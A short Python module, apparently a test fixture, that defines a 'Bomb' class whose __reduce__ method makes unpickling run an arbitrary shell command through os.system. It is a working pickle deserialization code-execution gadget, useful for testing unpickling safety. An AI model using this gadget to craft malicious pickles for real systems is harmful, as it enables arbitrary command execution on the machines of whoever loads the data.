"""What does harm where it is unpickled."""

import os
from typing import Any


class Bomb:
    """Runs a command, such as one that makes a file, where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)
